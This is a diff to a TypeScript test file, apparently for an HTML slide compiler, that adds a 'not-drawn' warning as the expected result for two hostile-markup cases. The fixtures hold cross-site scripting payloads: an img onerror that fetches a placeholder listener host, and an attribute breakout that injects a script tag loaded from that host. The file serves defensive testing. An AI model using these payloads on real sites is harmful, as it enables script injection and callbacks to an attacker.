@@ -6,6 +6,7 @@ const run = "<img src=data: onerror=\"fetch('{LISTENER}/ran')\">";
 
 const removed = { as: "warning", codes: ["removed-element"] } as const;
 const refused = { as: "warning", codes: ["refused-address"] } as const;
+const notDrawn = { as: "warning", codes: ["not-drawn"] } as const;
 const leftOut = { as: "warning", codes: ["left-out"] } as const;
 const nothing = { as: "nothing" } as const;
 
@@ -14,10 +15,10 @@ type Says = HostileCase["says"];
 /** Slides by name: the HTML on them, what a plain build says, and one with `--safe` where that is another. */
 const slides: Readonly<Record<string, readonly [string, Says, Says?]>> = {
   // Names of elements that the compiler uses itself.
-  "own-code": [`<quarterdeck-code title="></quarterdeck-code>${leave}"></quarterdeck-code>`, nothing, leftOut],
+  "own-code": [`<quarterdeck-code title="></quarterdeck-code>${leave}"></quarterdeck-code>`, notDrawn, leftOut],
   "own-code-script": [
     `<quarterdeck-code title='></quarterdeck-code><script src={LISTENER}/x></script>'></quarterdeck-code>`,
-    nothing,
+    notDrawn,
     leftOut,
   ],
   "own-mark-for-code": [`<qd-code title="></qd-code>${leave}"></qd-code>`, nothing, nothing],
